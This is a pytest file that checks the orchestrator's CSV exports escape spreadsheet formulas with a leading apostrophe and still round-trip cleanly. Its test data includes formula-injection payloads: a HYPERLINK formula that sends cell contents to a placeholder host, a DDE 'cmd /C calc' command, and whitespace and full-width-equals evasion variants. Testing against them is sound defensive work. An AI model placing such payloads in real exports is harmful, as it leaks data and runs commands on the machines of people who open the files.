"""CSV cells survive a round trip, and no spreadsheet evaluates one as a formula."""

import csv
import io
from pathlib import Path

import pytest

from orchestrator.csv_text import csv_rows, csv_text
from orchestrator.data.survey import BadImage
from orchestrator.evaluation.suspicious_labels import SuspiciousLabel, as_csv, from_csv
from orchestrator.figures.trials import TrialRow
from orchestrator.pipelines.data.importing import _write_bad_files
from orchestrator.reporting.leaderboard import leaderboard_csv

FORMULAS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
)
PLAIN = ("cat", "", "a=b", "'quoted'", " =1", "-1.5", "+3", "-1e-5", "1,5", 'a "b"', "a\nb")


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN, *(f"'{it}" for it in FORMULAS), "''=1"])
def test_every_text_survives_a_round_trip(text: str) -> None:
    assert csv_rows(csv_text([["a", "b"], [text, 1.5]])) == [{"a": text, "b": "1.5"}]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_only_cells_that_a_spreadsheet_would_evaluate_get_an_apostrophe() -> None:
    assert cells(csv_text([FORMULAS])) == [f"'{it}" for it in FORMULAS]
    assert cells(csv_text([[*PLAIN, -1.5, None, 3]])) == [*PLAIN, "-1.5", "", "3"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_table_of_ours_has_a_formula(formula: str, tmp_path: Path) -> None:
    doubted = SuspiciousLabel(0, formula, formula, 0.5, formula, 0.1, formula, 0.2)
    _write_bad_files([BadImage("train", formula, formula)], tmp_path / "bad.csv")
    trial = TrialRow(0, "finished", -0.5, {"data.name": formula})
    texts = (
        as_csv([doubted]),
        (tmp_path / "bad.csv").read_bytes().decode(),
        leaderboard_csv([trial], "max"),
    )
    for text in texts:
        assert f"'{formula}" in cells(text)
        assert formula not in cells(text)
    assert from_csv(as_csv([doubted])) == [doubted]
    assert "-0.5" in cells(texts[2])
